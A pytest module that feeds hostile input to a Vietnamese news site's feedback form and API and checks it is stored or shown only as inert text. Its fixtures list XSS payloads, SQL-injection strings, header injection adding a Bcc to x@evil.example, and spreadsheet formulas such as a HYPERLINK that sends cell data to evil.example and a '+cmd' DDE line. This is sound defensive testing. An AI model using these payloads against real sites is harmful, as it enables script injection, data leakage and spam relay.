"""Hostile input through the feedback form and the JSON API, on the real Postgres and
RabbitMQ: markup, event handlers, `javascript:` links, broken and mixed Unicode, invalid
UTF-8, a 1 MB body, SQL-looking text, header injection and formula cells. Each is stored as
plain text or refused with a clear 4xx (never a 500), and once approved and answered it
reaches the status page, the desk and /hoi-dap only as escaped text; the CSV export
neutralises formulas. (The article page is checked through the whole stack in
tests/e2e/test_feedback_case.py.)"""

from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from typing import Any

import pytest
from aiohttp import ClientResponse

from services.feedback import domain, receipts
from tests.support.feedback import Service, running_service

ARTICLE = 301
PROXY = "127.0.0.1"  # the test client's address, trusted so each lookup names its visitor
_serial = itertools.count(1)
_addresses = (f"198.51.100.{n}" for n in itertools.count(1))

# What a hostile visitor types: each must come back only as text.
HOSTILE_BODIES = [
    # Written as entities: plain_text unescapes them, so they are stored as real "<...>"
    # characters and only the templates' escaping keeps them text.
    "&lt;img src=x onerror=alert(1)&gt; viết bằng thực thể",
    "&lt;script&gt;alert(1)&lt;/script&gt; viết bằng thực thể",
    "<script>alert('xss')</script> Bài viết rất hay",
    "<img src=x onerror=alert(1)> Xem ảnh này",
    '<a href="javascript:alert(1)">Bấm vào đây</a> để xem thêm',
    "javascript:alert(document.cookie) // không phải đường dẫn",
    '<svg onload="alert(1)"></svg><iframe src="javascript:alert(2)"></iframe> nội dung',
    '"><script>alert(1)</script><p title="x">Nội dung sau thẻ bị cắt',
    "'); DROP TABLE feedback; -- xin cảm ơn",
    "1' OR '1'='1'; SELECT * FROM feedback WHERE ''='",
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm để nhận quà")',
    "+cmd|' /C calc'!A0 nội dung bắt đầu bằng dấu cộng",
    "@SUM(1+1) nội dung bắt đầu bằng a còng",
    "\tTab ở đầu nội dung và chữ Việt",
    # NFD (decomposed) Vietnamese mixed with NFC, stray combining marks, direction override.
    "Nguye\u0302\u0303n Thi\u0323 Hoa go\u0301p y\u0301 cho Hội nghị",
    "\u0301\u0323 dấu rời đứng đầu, \u202egnol txet\u202c và \u200b khoảng trắng rộng 0",
]
FORMULA_NAME = '=HYPERLINK("http://evil.example")'
HOSTILE_NAMES = [
    "Lan &lt;script&gt;alert(1)&lt;/script&gt;",
    "Lan <img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    FORMULA_NAME,
    "Robert'); DROP TABLE feedback;--",
    "Nguye\u0302\u0303n Văn A",
]
HEADER_INJECTION = "a\r\nBcc: x@evil.example"


@pytest.fixture(scope="module")
async def service() -> AsyncIterator[Service]:
    async with running_service(trusted_proxies=(PROXY,)) as service:
        await service.publish_article(ARTICLE, title="Hội nghị <b>tổng kết</b> năm 2026")
        yield service


def unique(text: str) -> str:
    return f"{text} (lần {next(_serial)})"


class ActiveMarkup(HTMLParser):
    """What in a page would run: inline scripts, scripts not from /static, on* attributes,
    and `javascript:` addresses."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction") and value:
                if value.strip().lower().replace("\t", "").startswith("javascript:"):
                    self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.found.append(f"<script src={src!r}>")
        if tag in ("iframe", "svg", "object", "embed"):
            self.found.append(f"<{tag}>")


def active_markup(html: str) -> list[str]:
    parser = ActiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found


def moderator(service: Service) -> dict[str, str]:
    return service.auth("moderator")


async def send_json(service: Service, **fields: Any) -> tuple[int, Any]:
    body = {"article_id": ARTICLE, "author_name": "Bạn đọc", "email": None, "body": unique("x")}
    body.update(fields)
    response = await service.client.post("/api/v1/feedback", json=body)
    text = await response.text()
    return response.status, (json.loads(text) if text.startswith("{") else text)


async def send_form(
    service: Service, target: str = f"/tin/{ARTICLE}/phan-hoi", **fields: str
) -> ClientResponse:
    key = f"article:{ARTICLE}" if target.startswith("/tin/") else "site"
    values = {
        "author_name": "Bạn đọc",
        "email": "",
        "body": unique("Nội dung bình thường"),
        "website": "",
        "form_token": service.stamp(key),
        "idempotency_token": receipts.new_form_token(),
    }
    values.update(fields)
    return await service.client.post(target, data=values)


async def approve_and_answer(service: Service, item_id: int, reply: str) -> None:
    base = f"/api/v1/feedback/{item_id}"
    for method, path, body in (("POST", "/approve", None), ("PUT", "/reply", {"body": reply})):
        response = await service.client.request(
            method, base + path, json=body, headers=moderator(service)
        )
        assert response.status == 200, await response.text()


async def lookup(service: Service, code: str) -> str:
    response = await service.client.get(
        "/tra-cuu-phan-hoi", params={"ma": code}, headers={"X-Forwarded-For": next(_addresses)}
    )
    assert response.status == 200, await response.text()
    return await response.text()


async def desk(service: Service, path: str) -> str:
    cookie = {"Cookie": f"bantin_access={service.token('moderator')}"}
    response = await service.client.get(path, headers=cookie)
    assert response.status == 200, await response.text()
    return await response.text()


# --- through the JSON API: stored as text or refused, never a 500 -------------------------


@pytest.mark.parametrize("body", HOSTILE_BODIES)
async def test_hostile_text_through_the_api_is_stored_as_text_and_shown_inert(
    service: Service, body: str
) -> None:
    body = unique(body)
    name = HOSTILE_NAMES[0]
    status, sent = await send_json(service, author_name=name, body=body)
    assert status == 202, sent
    row = await service.pool.fetchrow("SELECT * FROM feedback WHERE id = $1", sent["id"])
    assert row is not None
    # Stored as plain text (markup dropped, NFC); the SQL-looking text did nothing.
    assert row["body"] == domain.plain_text(body)
    assert await service.count("feedback") >= 1

    reply = f"Trả lời &lt;script&gt;alert('tra-loi')&lt;/script&gt; cho {name}"
    await approve_and_answer(service, sent["id"], reply)
    pages = {
        "status page": await lookup(service, sent["receipt"]),
        "desk queue": await desk(service, "/quan-tri/phan-hoi?trang-thai=tat-ca"),
        "desk case": await desk(service, f"/quan-tri/phan-hoi/{sent['id']}"),
    }
    for where, html in pages.items():
        assert active_markup(html) == [], where
    assert "&lt;script&gt;alert(&#39;tra-loi&#39;)&lt;/script&gt;" in pages["status page"]


async def test_hostile_site_suggestions_on_the_public_questions_page_stay_text(
    service: Service,
) -> None:
    for body in HOSTILE_BODIES[:6]:
        status, sent = await send_json(
            service, article_id=None, author_name=HOSTILE_NAMES[0], body=unique(body)
        )
        assert status == 202, sent
        await approve_and_answer(service, sent["id"], f"Đã ghi nhận: {body}")
        response = await service.client.post(
            f"/api/v1/feedback/{sent['id']}/qa", headers=moderator(service)
        )
        assert response.status == 200, await response.text()
    response = await service.client.get("/hoi-dap")
    assert response.status == 200
    html = await response.text()
    assert active_markup(html) == []
    assert "&lt;img src=x onerror=alert(1)&gt;" in html  # shown, as text


@pytest.mark.parametrize("name", HOSTILE_NAMES)
async def test_a_hostile_name_is_stored_as_text_or_refused_naming_the_field(
    service: Service, name: str
) -> None:
    before = await service.counts()
    status, answer = await send_json(service, author_name=name)
    if status == 422:  # nothing left once the markup is dropped
        assert "author_name" in json.dumps(answer)
        assert await service.counts() == before
        return
    assert status == 202, answer
    stored = await service.pool.fetchval(
        "SELECT author_name FROM feedback WHERE id = $1", answer["id"]
    )
    assert stored == domain.one_line(name)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("author_name", HEADER_INJECTION),
        ("email", "a@example.vn\r\nBcc: x@evil.example"),
        ("email", "a@example.vn\nContent-Type: text/html"),
        ("phone", "0901234567\r\nBcc: x@evil.example"),
    ],
)
async def test_header_injection_is_refused_or_kept_as_text(
    service: Service, field: str, value: str
) -> None:
    before = await service.counts()
    status, answer = await send_json(service, **{field: value, "body": unique("Xin hỏi")})
    if field == "author_name" and status == 202:
        row = await service.pool.fetchrow("SELECT author_name FROM feedback WHERE id = $1",
                                          answer["id"])  # fmt: skip
        assert row is not None and "\r" not in row["author_name"]
        return
    assert status == 422, answer
    assert field in json.dumps(answer)
    assert await service.counts() == before


async def test_a_lone_surrogate_in_json_is_refused(service: Service) -> None:
    before = await service.counts()
    raw = '{"article_id": %d, "author_name": "Bạn đọc", "body": "Nội dung \\ud800 lạc lõng"}'
    response = await service.client.post(
        "/api/v1/feedback",
        data=(raw % ARTICLE).encode(),
        headers={"Content-Type": "application/json"},
    )
    assert 400 <= response.status < 500, await response.text()
    assert await service.counts() == before


async def test_a_1_mb_body_is_refused_with_413_or_422(service: Service) -> None:
    before = await service.counts()
    status, answer = await send_json(service, body="Ý kiến rất dài. " * 70_000)
    assert status in (413, 422), answer
    response = await send_form(service, body="Ý kiến rất dài. " * 70_000)
    assert response.status in (413, 422), response.status
    assert await service.counts() == before


# --- through the form ---------------------------------------------------------------------


@pytest.mark.parametrize("body", HOSTILE_BODIES[:8])
async def test_hostile_text_through_the_form_is_stored_or_refused_never_active(
    service: Service, body: str
) -> None:
    response = await send_form(service, author_name=HOSTILE_NAMES[1], body=unique(body))
    assert response.status in (200, 422), await response.text()
    html = await response.text()
    assert active_markup(html) == []


@pytest.mark.parametrize(
    "raw",
    [
        b"author_name=B%E1%BA%A1n&body=N%FF%FEi+dung+h%C3%B4ng+h%E1%BB%A3p+l%E1%BB%87",
        b"author_name=\xff\xfe&body=N\xc3\xb4i dung \xed\xa0\x80 h\xc3\xb4ng",
        b"author_name=%ED%A0%80&body=" + b"%ED%A0%80" * 20,
    ],
)
async def test_invalid_utf8_in_a_form_post_is_refused_not_a_500(
    service: Service, raw: bytes
) -> None:
    before = await service.counts()
    token = service.stamp(f"article:{ARTICLE}").encode()
    data = (
        raw
        + b"&website=&form_token="
        + token
        + b"&idempotency_token="
        + receipts.new_form_token().encode()
    )
    response = await service.client.post(
        f"/tin/{ARTICLE}/phan-hoi",
        data=data,
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert 400 <= response.status < 500 or response.status == 200, response.status
    if response.status == 200:
        # Kept only if decoded to valid text; the page is inert either way.
        assert active_markup(await response.text()) == []
    else:
        assert await service.counts() == before


# --- the export -----------------------------------------------------------------------------


async def test_the_export_neutralises_every_formula_from_the_corpus(service: Service) -> None:
    for body in HOSTILE_BODIES[8:12]:
        status, sent = await send_json(service, author_name=FORMULA_NAME, body=unique(body))
        assert status == 202, sent
    response = await service.client.get("/api/v1/feedback/export.csv", headers=moderator(service))
    assert response.status == 200
    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA_NAME in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_checker_sees_what_would_run() -> None:
    """The page check itself: it finds each kind of active markup, and not escaped text."""
    assert active_markup("<p>&lt;script&gt;alert(1)&lt;/script&gt; onerror=x</p>") == []
    assert active_markup('<script src="/static/desk.js" defer></script>') == []
    for html in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href=" JavaScript:alert(1)">x</a>',
        "<svg onload=alert(1)>",
    ):
        assert active_markup(html) != [], html
